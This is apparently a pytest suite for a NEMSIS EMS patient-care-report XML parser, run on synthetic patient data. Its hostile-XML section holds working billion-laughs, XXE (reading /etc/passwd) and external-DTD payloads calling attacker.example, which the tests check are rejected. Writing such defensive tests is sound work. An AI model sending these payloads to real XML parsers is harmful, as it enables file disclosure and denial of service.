"""NEMSIS v3.5 EMSDataSet parsing on synthetic fixtures (tests/fixtures/nemsis/)."""

from __future__ import annotations

import dataclasses
import time
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import services.intake.nemsis as nemsis_module
from services.intake.nemsis import (
    DEFAULT_MAX_BYTES,
    DEFAULT_MAX_RECORDS,
    EmsInputError,
    EmsRecordResult,
    MissingPcrNumber,
    NotNemsis,
    TooManyRecords,
    XmlForbidden,
    XmlMalformed,
    XmlTooLarge,
    consent_from_value,
    leave_behind_from_value,
    parse_ems_dataset,
)
from services.intake.records import Address, EmsMedication, EmsRunReport

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "nemsis"
NS = "http://www.nemsis.org"
XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
EST = timezone(timedelta(hours=-5))
EDT = timezone(timedelta(hours=-4))
NY = ZoneInfo("America/New_York")

# Names that appear in the fixtures / generated documents and must never leak into errors.
PHI = ("Quackenbush", "Zebulon", "Marchbanks", "Persephone", "336-555-0100")


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def doc(
    *pcrs: str,
    agency: str | None = "NC-EMS-041",
    namespace: bool = True,
    root: str = "EMSDataSet",
) -> bytes:
    """A small EMSDataSet with one Header holding the given PatientCareReport bodies."""
    demographic = (
        f"<DemographicGroup><dAgency.01>041</dAgency.01><dAgency.02>{agency}</dAgency.02>"
        "<dAgency.04>37</dAgency.04></DemographicGroup>"
        if agency is not None
        else "<DemographicGroup><dAgency.01>041</dAgency.01></DemographicGroup>"
    )
    xmlns = f' xmlns="{NS}"' if namespace else ""
    body = "".join(f"<PatientCareReport>{p}</PatientCareReport>" for p in pcrs)
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><{root}{xmlns} {XSI}>'
        f"<Header>{demographic}{body}</Header></{root}>"
    ).encode()


def pcr(number: str | None = "PCR-1", *parts: str) -> str:
    record = f"<eRecord><eRecord.01>{number}</eRecord.01></eRecord>" if number else "<eRecord/>"
    return record + "".join(parts)


def custom(element_id: str, *values: str) -> str:
    results = "".join(f"<eCustomResults.01>{v}</eCustomResults.01>" for v in values)
    return (
        f"<eCustomResults><eCustomResults.ResultsGroup>{results}"
        f"<eCustomResults.02>{element_id}</eCustomResults.02>"
        "</eCustomResults.ResultsGroup></eCustomResults>"
    )


def one(data: bytes, **kwargs: Any) -> EmsRunReport:
    results = parse_ems_dataset(data, **kwargs)
    assert len(results) == 1
    assert results[0].error is None
    assert results[0].report is not None
    return results[0].report


def assert_no_phi(error: BaseException, *phi: str) -> None:
    assert isinstance(error, EmsInputError)
    assert error.__cause__ is None
    assert error.__context__ is None
    for text in (str(error), repr(error), error.message, *map(str, error.args)):
        for value in phi or PHI:
            assert value not in text


# --------------------------------------------------------------------------- fields

Field = Callable[[EmsRunReport], object]

SINGLE_FIELDS: list[tuple[str, Field, object]] = [
    ("pcr_number", lambda r: r.pcr_number, "2026-000123"),
    ("agency from dAgency.02, not eResponse.01", lambda r: r.agency_id, "NC-EMS-041"),
    ("family", lambda r: r.identity.family, "Quackenbush"),
    ("given", lambda r: r.identity.given, "Zebulon"),
    ("middle", lambda r: r.identity.middle, "Ignatius"),
    ("dob", lambda r: r.identity.dob, date(1990, 4, 2)),
    ("sex prefers ePatient.25 over deprecated .13", lambda r: r.identity.sex, "9919003"),
    ("phones in order", lambda r: r.identity.phones, ("336-555-0100", "336-555-0199")),
    (
        "home address",
        lambda r: r.identity.address,
        Address("12 Synthetic Lane", "1019610", "37", "27401", "37081"),
    ),
    ("no MRN for EMS", lambda r: r.identity.mrn, None),
    ("first preferred language", lambda r: r.identity.language, "spa"),
    ("not deidentified", lambda r: r.identity.deidentified, False),
    (
        "incident_at = PSAP call",
        lambda r: r.incident_at,
        datetime(2026, 11, 20, 22, 14, tzinfo=EST),
    ),
    (
        "scene (no apartment)",
        lambda r: r.scene,
        Address("400 Example Street", "1019610", "37", "27401", "37081"),
    ),
    ("impressions primary first", lambda r: r.impressions, ("T40.411A", "F11.20", "R40.20")),
    (
        "medications: PN and SNOMED skipped, missing CodeType is RxNorm",
        lambda r: r.medications,
        (
            EmsMedication("7242", "9916003", datetime(2026, 11, 20, 22, 5, tzinfo=EST)),
            EmsMedication("7242", "9916001", datetime(2026, 11, 20, 22, 27, tzinfo=EST)),
            EmsMedication("7806", None, datetime(2026, 11, 20, 22, 31, tzinfo=EST)),
        ),
    ),
    ("drug use indicators", lambda r: r.drug_use_indicators, ("3117003", "3117015")),
    ("unit disposition .27", lambda r: r.unit_disposition, "4227001"),
    ("patient evaluation/care .28", lambda r: r.patient_evaluation_care, "4228001"),
    ("crew disposition .29", lambda r: r.crew_disposition, "4229001"),
    ("transport disposition .30", lambda r: r.transport_disposition, "4230001"),
    ("consent 9923003", lambda r: r.consent, "accepted"),
    (
        "narrative (entities decoded)",
        lambda r: r.narrative,
        "Synthetic narrative: found unresponsive, pinpoint pupils; naloxone 4 mg IN, "
        "improved & alert.",
    ),
    ("leave behind", lambda r: r.leave_behind, ("naloxone_kit", "resource_information")),
]


@pytest.mark.parametrize("name", ["single_pcr.xml", "no_namespace.xml"])
@pytest.mark.parametrize(
    ("field", "expected"),
    [pytest.param(f, e, id=i) for i, f, e in SINGLE_FIELDS],
)
def test_single_pcr_fields(name: str, field: Field, expected: object) -> None:
    assert field(one(fixture(name))) == expected


def test_single_pcr_times_are_aware() -> None:
    report = one(fixture("single_pcr.xml"))
    assert report.incident_at is not None
    assert report.incident_at.utcoffset() == timedelta(hours=-5)
    assert all(m.given_at is not None and m.given_at.tzinfo for m in report.medications)


def test_multi_pcr_one_bad_record_does_not_reject_the_others() -> None:
    results = parse_ems_dataset(fixture("multi_pcr.xml"))
    assert [r.index for r in results] == [0, 1, 2]
    assert [r.error is None for r in results] == [True, False, True]
    bad = results[1]
    assert bad.report is None
    assert isinstance(bad.error, MissingPcrNumber)
    assert bad.error.code == "missing_pcr_number"
    assert_no_phi(bad.error)
    assert results[0].report is not None
    assert results[2].report is not None
    assert results[0].report.pcr_number == "2026-000200"
    assert results[2].report.pcr_number == "2026-000202"


MULTI_FIELDS: list[tuple[str, int, Field, object]] = [
    ("agency header 1", 0, lambda r: r.agency_id, "NC-EMS-041"),
    ("agency header 2", 2, lambda r: r.agency_id, "NC-EMS-077"),
    ("names", 0, lambda r: (r.identity.family, r.identity.given), ("Fairweather", "Ottoline")),
    ("nil DOB (PN refused)", 0, lambda r: r.identity.dob, None),
    ("nil phone", 0, lambda r: r.identity.phones, ()),
    ("nil .13, .25 present", 0, lambda r: r.identity.sex, "9919001"),
    ("no home address", 0, lambda r: r.identity.address, None),
    ("scene partial", 0, lambda r: r.scene, Address(None, None, "37", "27406", "37081")),
    ("nil secondary impression", 0, lambda r: r.impressions, ("F11.920",)),
    ("nil eHistory.17 (PN)", 0, lambda r: r.drug_use_indicators, ()),
    ("refused care", 0, lambda r: r.patient_evaluation_care, "4228003"),
    ("crew refused", 0, lambda r: r.crew_disposition, "4229013"),
    ("refused transport", 0, lambda r: r.transport_disposition, "4230009"),
    ("declined", 0, lambda r: r.consent, "declined"),
    (
        "leave behind, repeated eCustomResults.01",
        0,
        lambda r: r.leave_behind,
        ("naloxone_kit", "resource_information"),
    ),
    (
        "naloxone improved",
        0,
        lambda r: r.medications,
        (EmsMedication("7242", "9916001", datetime(2026, 11, 21, 1, 12, tzinfo=EST)),),
    ),
    (
        "naive times in New York (EDT), PSAP nil -> unit notified",
        2,
        lambda r: r.incident_at,
        datetime(2026, 7, 4, 23, 50, tzinfo=EDT),
    ),
    ("deidentified (no name, no phone)", 2, lambda r: r.identity.deidentified, True),
    (
        "home address without street",
        2,
        lambda r: r.identity.address,
        Address(None, None, "37", "27403", "37081"),
    ),
    ("no consent element", 2, lambda r: r.consent, "unknown"),
    ("nil narrative", 2, lambda r: r.narrative, None),
    ("no leave behind", 2, lambda r: r.leave_behind, ()),
]


@pytest.mark.parametrize(
    ("index", "field", "expected"),
    [pytest.param(n, f, e, id=i) for i, n, f, e in MULTI_FIELDS],
)
def test_multi_pcr_fields(index: int, field: Field, expected: object) -> None:
    report = parse_ems_dataset(fixture("multi_pcr.xml"))[index].report
    assert report is not None
    assert field(report) == expected


def test_result_is_frozen() -> None:
    result = parse_ems_dataset(fixture("single_pcr.xml"))[0]
    assert isinstance(result, EmsRecordResult)
    with pytest.raises(dataclasses.FrozenInstanceError):
        result.index = 3  # type: ignore[misc]


# --------------------------------------------------------------------------- namespaces


def test_prefixed_namespace() -> None:
    data = (
        f'<n:EMSDataSet xmlns:n="{NS}"><n:Header><n:DemographicGroup>'
        "<n:dAgency.02>A-1</n:dAgency.02></n:DemographicGroup><n:PatientCareReport>"
        "<n:eRecord><n:eRecord.01>P-9</n:eRecord.01></n:eRecord>"
        "<n:eSituation><n:eSituation.11>F11.20</n:eSituation.11></n:eSituation>"
        "</n:PatientCareReport></n:Header></n:EMSDataSet>"
    ).encode()
    report = one(data)
    assert (report.pcr_number, report.agency_id, report.impressions) == ("P-9", "A-1", ("F11.20",))


def test_elements_in_foreign_namespaces_are_ignored() -> None:
    data = doc(
        '<eRecord><x:eRecord.01 xmlns:x="urn:example:other">P-1</x:eRecord.01></eRecord>'
        '<eSituation><x:eSituation.11 xmlns:x="urn:x">F11</x:eSituation.11>'
        "<eSituation.11>T40.1X1A</eSituation.11></eSituation>"
    )
    [result] = parse_ems_dataset(data)
    assert isinstance(result.error, MissingPcrNumber)

    report = one(
        doc(
            pcr(
                "P-2",
                '<eSituation><x:eSituation.11 xmlns:x="urn:x">F11</x:eSituation.11>'
                "<eSituation.11>T40.1X1A</eSituation.11></eSituation>",
            )
        )
    )
    assert report.impressions == ("T40.1X1A",)


@pytest.mark.parametrize(
    "root",
    [
        '<EMSDataSet xmlns="urn:not-nemsis"><Header/></EMSDataSet>',
        f'<DEMDataSet xmlns="{NS}"><Header/></DEMDataSet>',
        "<html><body>EMSDataSet</body></html>",
        f'<Header xmlns="{NS}"><PatientCareReport/></Header>',
    ],
)
def test_wrong_root_is_not_nemsis(root: str) -> None:
    with pytest.raises(NotNemsis) as info:
        parse_ems_dataset(root.encode())
    assert info.value.code == "not_nemsis"


def test_dataset_without_reports_is_empty() -> None:
    assert parse_ems_dataset(f'<EMSDataSet xmlns="{NS}"/>'.encode()) == []


def test_bytearray_is_accepted() -> None:
    data = bytearray(fixture("single_pcr.xml"))
    assert len(parse_ems_dataset(data)) == 1  # type: ignore[arg-type]


def test_str_is_refused() -> None:
    with pytest.raises(TypeError):
        parse_ems_dataset(fixture("single_pcr.xml").decode())  # type: ignore[arg-type]


# --------------------------------------------------------------------------- agency


@pytest.mark.parametrize(
    ("agency", "response", "expected"),
    [
        (
            "HDR-1",
            "<eResponse><eResponse.AgencyGroup><eResponse.01>RSP-1</eResponse.01>"
            "</eResponse.AgencyGroup></eResponse>",
            "HDR-1",
        ),
        (
            None,
            "<eResponse><eResponse.AgencyGroup><eResponse.01>RSP-1</eResponse.01>"
            "</eResponse.AgencyGroup></eResponse>",
            "RSP-1",
        ),
        (
            "",
            "<eResponse><eResponse.AgencyGroup><eResponse.01>RSP-1</eResponse.01>"
            "</eResponse.AgencyGroup></eResponse>",
            "RSP-1",
        ),
        (None, "", None),
    ],
)
def test_agency(agency: str | None, response: str, expected: str | None) -> None:
    assert one(doc(pcr("P-1", response), agency=agency)).agency_id == expected


# --------------------------------------------------------------------------- consent


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *[(v, "accepted") for v in ["yes", "Y", "TRUE", "Accepted", "accept", "1", "9923003"]],
        *[
            (v, "declined")
            for v in ["no", "N", "false", "DECLINED", "decline", "Refused", "0", "9923001"]
        ],
        *[(v, "unknown") for v in ["maybe", "", "  ", "yes please", "9923005", "2", "-1", None]],
        (" yes ", "accepted"),
        ("\tNo\n", "declined"),
    ],
)
def test_consent_from_value(value: str | None, expected: str) -> None:
    assert consent_from_value(value) == expected


@pytest.mark.parametrize(
    ("results", "expected"),
    [
        (custom("itDisposition.PeerFollowUp", "Yes"), "accepted"),
        (custom("itDisposition.PeerFollowUp", "no"), "declined"),
        (custom("itDisposition.PeerFollowUp", "unsure"), "unknown"),
        (
            '<eCustomResults><eCustomResults.ResultsGroup><eCustomResults.01 xsi:nil="true" '
            'NV="7701003"/><eCustomResults.02>itDisposition.PeerFollowUp</eCustomResults.02>'
            "</eCustomResults.ResultsGroup></eCustomResults>",
            "unknown",
        ),
        (custom("itDisposition.OtherThing", "yes"), "unknown"),
        (custom("itdisposition.peerfollowup", "yes"), "unknown"),
        (custom(" itDisposition.PeerFollowUp ", "yes"), "accepted"),
        ("", "unknown"),
        # Several answers: a refusal is never overridden.
        (custom("itDisposition.PeerFollowUp", "yes", "no"), "declined"),
        (
            custom("itDisposition.PeerFollowUp", "no")
            + custom("itDisposition.PeerFollowUp", "yes"),
            "declined",
        ),
        (custom("itDisposition.PeerFollowUp", "yes", "garbled"), "accepted"),
    ],
)
def test_consent_from_custom_results(results: str, expected: str) -> None:
    assert one(doc(pcr("P-1", results))).consent == expected


def test_consent_element_is_configurable() -> None:
    data = doc(pcr("P-1", custom("xyConsent.01", "accepted")))
    assert one(data).consent == "unknown"
    assert one(data, consent_element="xyConsent.01").consent == "accepted"


# --------------------------------------------------------------------------- leave behind


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("naloxone_kit,resource_information", ("naloxone_kit", "resource_information")),
        (" Naloxone Kit , RESOURCE-INFORMATION ", ("naloxone_kit", "resource_information")),
        ("narcan", ("naloxone_kit",)),
        ("fts, resources", ("fentanyl_test_strips", "resource_information")),
        ("naloxone_kit,naloxone,narcan", ("naloxone_kit",)),
        ("call my sister at 336-555-0100", ()),
        ("", ()),
        (None, ()),
        (",,", ()),
    ],
)
def test_leave_behind_from_value(value: str | None, expected: tuple[str, ...]) -> None:
    assert leave_behind_from_value(value) == expected


def test_leave_behind_element_is_configurable() -> None:
    data = doc(pcr("P-1", custom("xyLeave.01", "naloxone_kit")))
    assert one(data).leave_behind == ()
    assert one(data, leave_behind_element="xyLeave.01").leave_behind == ("naloxone_kit",)


# --------------------------------------------------------------------------- times


def times(**values: str) -> str:
    inner = "".join(
        f'<eTimes.{k[1:]} xsi:nil="true" NV="7701003"/>'
        if v == "nil"
        else f"<eTimes.{k[1:]}>{v}</eTimes.{k[1:]}>"
        for k, v in values.items()
    )
    return f"<eTimes>{inner}</eTimes>"


@pytest.mark.parametrize(
    ("parts", "tz", "expected"),
    [
        pytest.param(
            {"t01": "2023-03-01T15:20:00-05:00", "t03": "2023-03-01T15:21:00-05:00"},
            None,
            datetime(2023, 3, 1, 15, 20, tzinfo=EST),
            id="offset",
        ),
        pytest.param(
            {"t01": "2023-03-01T20:20:00Z"}, None, datetime(2023, 3, 1, 20, 20, tzinfo=UTC), id="Z"
        ),
        pytest.param(
            {"t01": "2023-03-01T15:20:00.250-05:00"},
            None,
            datetime(2023, 3, 1, 15, 20, 0, 250000, tzinfo=EST),
            id="fraction",
        ),
        pytest.param(
            {"t01": "2023-01-15T10:00:00"},
            None,
            datetime(2023, 1, 15, 10, tzinfo=EST),
            id="naive-winter-NY",
        ),
        pytest.param(
            {"t01": "2023-07-15T10:00:00"},
            None,
            datetime(2023, 7, 15, 10, tzinfo=EDT),
            id="naive-summer-NY",
        ),
        pytest.param(
            {"t01": "2023-07-15T10:00:00"},
            UTC,
            datetime(2023, 7, 15, 10, tzinfo=UTC),
            id="naive-custom-tz",
        ),
        pytest.param(
            {"t01": "nil", "t03": "2023-03-01T15:21:00-05:00", "t06": "2023-03-01T15:30:00-05:00"},
            None,
            datetime(2023, 3, 1, 15, 21, tzinfo=EST),
            id="psap-nil",
        ),
        pytest.param(
            {
                "t01": "2023-03-01T15:40:00-05:00",
                "t03": "2023-03-01T15:39:00-05:00",
                "t06": "2023-03-01T20:10:00+00:00",
                "t07": "2023-03-01T15:50:00-05:00",
            },
            None,
            datetime(2023, 3, 1, 20, 10, tzinfo=UTC),
            id="earliest-across-offsets",
        ),
        pytest.param(
            {"t06": "2023-03-01T15:30:00-05:00", "t07": "2023-03-01T15:29:00-05:00"},
            None,
            datetime(2023, 3, 1, 15, 29, tzinfo=EST),
            id="arrived-at-patient-earliest",
        ),
        pytest.param(
            {"t05": "2023-03-01T15:00:00-05:00", "t06": "2023-03-01T15:30:00-05:00"},
            None,
            datetime(2023, 3, 1, 15, 30, tzinfo=EST),
            id="en-route-ignored",
        ),
        pytest.param(
            {
                "t01": "yesterday",
                "t03": "2023-02-30T10:00:00-05:00",
                "t06": "2023-03-01T15:30:00-05:00",
            },
            None,
            datetime(2023, 3, 1, 15, 30, tzinfo=EST),
            id="invalid-values-ignored",
        ),
        pytest.param({"t01": "2023-03-01"}, None, None, id="date-only-ignored"),
        pytest.param({"t01": "nil"}, None, None, id="all-nil"),
        pytest.param({}, None, None, id="none"),
    ],
)
def test_incident_at(parts: dict[str, str], tz: Any, expected: datetime | None) -> None:
    kwargs = {} if tz is None else {"default_tz": tz}
    got = one(doc(pcr("P-1", times(**parts))), **kwargs).incident_at
    assert got == expected
    if got is not None:
        assert got.tzinfo is not None
        assert got.utcoffset() == expected.utcoffset()  # type: ignore[union-attr]


def test_naive_time_uses_zone_rules_not_fixed_offset() -> None:
    got = one(doc(pcr("P-1", times(t01="2023-07-15T10:00:00")))).incident_at
    assert got is not None
    assert got.tzinfo == NY


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("1990-04-02", date(1990, 4, 2)),
        ("1990-04-02-05:00", date(1990, 4, 2)),
        ("1990-02-30", None),
        ("04/02/1990", None),
        ("1990-4-2", None),
    ],
)
def test_date_of_birth(value: str, expected: date | None) -> None:
    report = one(doc(pcr("P-1", f"<ePatient><ePatient.17>{value}</ePatient.17></ePatient>")))
    assert report.identity.dob == expected


# --------------------------------------------------------------------------- details


def test_name_outside_name_group_and_whitespace() -> None:
    report = one(
        doc(
            pcr(
                "  P-1\n ",
                "<ePatient><ePatient.02>\n  Doe </ePatient.02><ePatient.03></ePatient.03>"
                "<ePatient.13>9906001</ePatient.13></ePatient>",
            )
        )
    )
    assert report.pcr_number == "P-1"
    assert report.identity.family == "Doe"
    assert report.identity.given is None
    assert report.identity.sex == "9906001"


def test_empty_pcr_number_is_missing() -> None:
    data = doc(
        pcr(None),
        pcr("   "),
        '<eRecord><eRecord.01 xsi:nil="true" NV="7701003"/></eRecord>',
        pcr("P-4"),
    )
    results = parse_ems_dataset(data)
    assert [r.error.code if r.error else r.report.pcr_number for r in results] == [  # type: ignore[union-attr]
        "missing_pcr_number",
        "missing_pcr_number",
        "missing_pcr_number",
        "P-4",
    ]


def test_medication_groups() -> None:
    meds = (
        "<eMedications>"
        # nil medication
        '<eMedications.MedicationGroup><eMedications.03 xsi:nil="true" NV="7701001"/>'
        "</eMedications.MedicationGroup>"
        # not given: contraindication noted
        '<eMedications.MedicationGroup><eMedications.03 PN="8801001" CodeType="9924003">'
        "7242</eMedications.03></eMedications.MedicationGroup>"
        # ICD-10 coded
        '<eMedications.MedicationGroup><eMedications.03 CodeType="9924001">0W9G3ZZ'
        "</eMedications.03></eMedications.MedicationGroup>"
        # given, nothing else recorded
        '<eMedications.MedicationGroup><eMedications.01 xsi:nil="true" NV="7701003"/>'
        '<eMedications.03 CodeType="9924003"> 7242 </eMedications.03>'
        '<eMedications.07 xsi:nil="true" NV="7701003"/></eMedications.MedicationGroup>'
        # approximate time (PN on the time keeps the value)
        '<eMedications.MedicationGroup><eMedications.01 PN="8801029">2023-03-01T15:00:00-05:00'
        "</eMedications.01><eMedications.03>7242</eMedications.03>"
        "<eMedications.07>9916005</eMedications.07></eMedications.MedicationGroup>"
        "</eMedications>"
    )
    assert one(doc(pcr("P-1", meds))).medications == (
        EmsMedication("7242", None, None),
        EmsMedication("7242", "9916005", datetime(2023, 3, 1, 15, tzinfo=EST)),
    )


def test_a_nested_medication_group_keeps_its_own_elements() -> None:
    """Each element belongs to its nearest group: walking each group's whole subtree was
    quadratic in the nesting (found by fuzzing: 20,000 nested groups took 100 s)."""
    meds = (
        "<eMedications><eMedications.MedicationGroup><eMedications.03>7242</eMedications.03>"
        "<eMedications.MedicationGroup><eMedications.03>4337</eMedications.03>"
        "<eMedications.07>9916001</eMedications.07></eMedications.MedicationGroup>"
        "</eMedications.MedicationGroup></eMedications>"
    )
    assert one(doc(pcr("P-1", meds))).medications == (
        EmsMedication("7242", None, None),
        EmsMedication("4337", "9916001", None),
    )


def test_deeply_nested_medication_groups_stay_linear() -> None:
    depth = 20_000
    meds = (
        "<eMedications.MedicationGroup><eMedications.03>7242</eMedications.03>" * depth
        + "</eMedications.MedicationGroup>" * depth
    )
    start = time.perf_counter()
    assert len(one(doc(pcr("P-1", meds))).medications) == depth
    # Quadratic, this took many minutes; linear takes well under a second. The bound is
    # loose on purpose: a shared, loaded machine must not fail a correct parser.
    assert time.perf_counter() - start < 60


@pytest.mark.parametrize("value", ["0001-01-01T00:00:00+01:00", "9999-12-31T23:30:00-01:00"])
def test_a_time_without_a_utc_equivalent_is_absent(value: str) -> None:
    """Found while fuzzing: the scheduler could not convert these to UTC."""
    meds = (
        "<eMedications><eMedications.MedicationGroup>"
        f"<eMedications.01>{value}</eMedications.01><eMedications.03>7242</eMedications.03>"
        "</eMedications.MedicationGroup></eMedications>"
    )
    report = one(doc(pcr("P-1", times(t01=value, t06="2023-03-01T15:30:00-05:00"), meds)))
    assert report.incident_at == datetime(2023, 3, 1, 15, 30, tzinfo=EST)
    assert report.medications == (EmsMedication("7242", None, None),)


def test_impressions_are_deduplicated_primary_first() -> None:
    situation = (
        "<eSituation><eSituation.11>F11.20</eSituation.11><eSituation.12>T40.1X1A</eSituation.12>"
        "<eSituation.12>F11.20</eSituation.12><eSituation.12>T40.1X1A</eSituation.12>"
        "</eSituation>"
    )
    assert one(doc(pcr("P-1", situation))).impressions == ("F11.20", "T40.1X1A")


def test_secondary_without_primary() -> None:
    situation = (
        '<eSituation><eSituation.11 xsi:nil="true" NV="7701003"/>'
        "<eSituation.12>F19</eSituation.12></eSituation>"
    )
    assert one(doc(pcr("P-1", situation))).impressions == ("F19",)


def test_many_repeated_elements_stay_linear() -> None:
    """A 5 MiB PCR of distinct repeated codes must not make de-duplication quadratic."""
    n = 100_000
    history = "".join(f"<eHistory.17>{i}</eHistory.17>" for i in range(n))
    secondary = "".join(f"<eSituation.12>F{i}</eSituation.12>" for i in range(n // 2))
    data = doc(pcr("P-1", f"<eHistory>{history}</eHistory><eSituation>{secondary}</eSituation>"))
    assert len(data) <= DEFAULT_MAX_BYTES
    started = time.monotonic()
    report = one(data)
    assert time.monotonic() - started < 120  # quadratic takes far longer; loose for loaded machines
    assert len(report.drug_use_indicators) == n
    assert len(report.impressions) == n // 2


def test_duplicate_phones_dropped() -> None:
    patient = (
        '<ePatient><ePatient.18>336-555-0100</ePatient.18><ePatient.18 PhoneNumberType="9913005">'
        "336-555-0100</ePatient.18><ePatient.18>336-555-0101</ePatient.18></ePatient>"
    )
    assert one(doc(pcr("P-1", patient))).identity.phones == ("336-555-0100", "336-555-0101")


# --------------------------------------------------------------------------- hostile XML

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "Quackenbush">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<EMSDataSet xmlns="http://www.nemsis.org"><Header><PatientCareReport><eRecord>
<eRecord.01>&lol9;</eRecord.01></eRecord></PatientCareReport></Header></EMSDataSet>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE EMSDataSet [ <!ENTITY Zebulon SYSTEM "file:///etc/passwd"> ]>
<EMSDataSet xmlns="http://www.nemsis.org"><Header><PatientCareReport><eRecord>
<eRecord.01>&Zebulon;</eRecord.01></eRecord></PatientCareReport></Header></EMSDataSet>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE EMSDataSet [ <!ENTITY % Zebulon SYSTEM "http://attacker.example/x.dtd"> %Zebulon; ]>
<EMSDataSet xmlns="http://www.nemsis.org"/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE EMSDataSet SYSTEM "http://attacker.example/Quackenbush.dtd">
<EMSDataSet xmlns="http://www.nemsis.org"/>
"""

PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE EMSDataSet [ <!ELEMENT EMSDataSet ANY> ]>
<EMSDataSet xmlns="http://www.nemsis.org"/>
"""


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(XXE, id="external-entity"),
        pytest.param(PARAMETER_ENTITY, id="parameter-entity"),
        pytest.param(EXTERNAL_DTD, id="external-dtd"),
        pytest.param(PLAIN_DTD, id="internal-dtd"),
    ],
)
def test_forbidden_xml(data: bytes) -> None:
    with pytest.raises(XmlForbidden) as info:
        parse_ems_dataset(data)
    assert info.value.code == "xml_forbidden"
    assert_no_phi(info.value)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"not xml at all",
        b"<EMSDataSet xmlns='http://www.nemsis.org'><Header>",
        b"<EMSDataSet xmlns='http://www.nemsis.org'><a>Quackenbush</b></EMSDataSet>",
        b"<EMSDataSet>&Zebulon;</EMSDataSet>",
        b"<?xml version='1.0' encoding='x-no-such-codec'?><EMSDataSet/>",
        b"<?xml version='1.0' encoding='utf-32'?><EMSDataSet/>",
        b"\xff\xfe\x00garbage",
        b"<EMSDataSet/><EMSDataSet/>",
    ],
)
def test_malformed_xml(data: bytes) -> None:
    with pytest.raises(XmlMalformed) as info:
        parse_ems_dataset(data)
    assert info.value.code == "xml_malformed"
    assert_no_phi(info.value)


def test_utf16_document() -> None:
    text = fixture("single_pcr.xml").decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    assert one(text.encode("utf-16")).identity.family == "Quackenbush"


def test_too_large_is_checked_before_parsing() -> None:
    data = BILLION_LAUGHS + b" " * 64
    with pytest.raises(XmlTooLarge) as info:
        parse_ems_dataset(data, max_bytes=len(data) - 1)
    assert info.value.code == "xml_too_large"
    assert_no_phi(info.value)
    with pytest.raises(XmlForbidden):
        parse_ems_dataset(data, max_bytes=len(data))


def test_default_max_bytes_is_5_mib() -> None:
    assert DEFAULT_MAX_BYTES == 5 * 1024 * 1024
    head = f'<EMSDataSet xmlns="{NS}">'.encode()
    tail = b"</EMSDataSet>"
    filler = b" " * (DEFAULT_MAX_BYTES - len(head) - len(tail))
    assert parse_ems_dataset(head + filler + tail) == []
    with pytest.raises(XmlTooLarge):
        parse_ems_dataset(head + filler + b" " + tail)


def test_too_many_records() -> None:
    data = doc(pcr("P-1"), pcr("P-2"), pcr("P-3"))
    assert len(parse_ems_dataset(data, max_records=3)) == 3
    with pytest.raises(TooManyRecords) as info:
        parse_ems_dataset(data, max_records=2)
    assert info.value.code == "too_many_records"


def test_too_many_records_default_and_across_headers() -> None:
    assert DEFAULT_MAX_RECORDS == 500
    header = (
        "<Header><DemographicGroup><dAgency.02>A</dAgency.02></DemographicGroup>"
        + "<PatientCareReport><eRecord><eRecord.01>P</eRecord.01></eRecord></PatientCareReport>"
        * 250
        + "</Header>"
    )
    data = f'<EMSDataSet xmlns="{NS}">{header}{header}</EMSDataSet>'.encode()
    assert len(parse_ems_dataset(data)) == 500
    more = data.replace(b"</EMSDataSet>", b"<Header><PatientCareReport/></Header></EMSDataSet>")
    with pytest.raises(TooManyRecords):
        parse_ems_dataset(more)


def test_wrong_root_message_has_no_content() -> None:
    with pytest.raises(NotNemsis) as info:
        parse_ems_dataset(b"<Quackenbush><Zebulon/></Quackenbush>")
    assert_no_phi(info.value)


@pytest.mark.parametrize(
    "error",
    [XmlTooLarge, XmlForbidden, XmlMalformed, NotNemsis, MissingPcrNumber, TooManyRecords],
)
def test_error_hierarchy(error: type[EmsInputError]) -> None:
    assert issubclass(error, EmsInputError)
    assert issubclass(error, ValueError)
    instance = error("m")
    assert instance.message == "m"
    assert str(instance) == "m"
    assert (
        instance.code
        == {
            XmlTooLarge: "xml_too_large",
            XmlForbidden: "xml_forbidden",
            XmlMalformed: "xml_malformed",
            NotNemsis: "not_nemsis",
            MissingPcrNumber: "missing_pcr_number",
            TooManyRecords: "too_many_records",
        }[error]
    )


# --------------------------------------------------------------------------- fuzzing


DOCUMENT_CODES = {
    "xml_too_large",
    "xml_forbidden",
    "xml_malformed",
    "not_nemsis",
    "too_many_records",
}


